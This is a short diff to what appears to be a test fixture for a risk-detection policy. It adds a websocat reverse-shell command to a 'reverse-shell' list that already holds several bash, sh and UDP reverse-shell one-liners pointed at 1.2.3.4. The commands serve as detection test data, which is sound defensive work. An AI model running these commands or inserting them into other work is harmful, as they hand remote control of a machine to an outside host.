@@ -8,6 +8,7 @@ from tests.policy.risks.readings import FOLDER, found
 FOUND = {
     "reverse-shell": (
         "bash -i >& /dev/tcp/1.2.3.4/99 0>&1",
+        "websocat ws://1.2.3.4:80 exec:sh",
         "sh 0</dev/tcp/1.2.3.4/99 1>&0",
         "exec 3<>/dev/tcp/1.2.3.4/99; sh <&3 >&3",
         'exec 5<>/dev/udp/1.2.3.4/99; while read l <&5; do eval "$l" >&5; done',
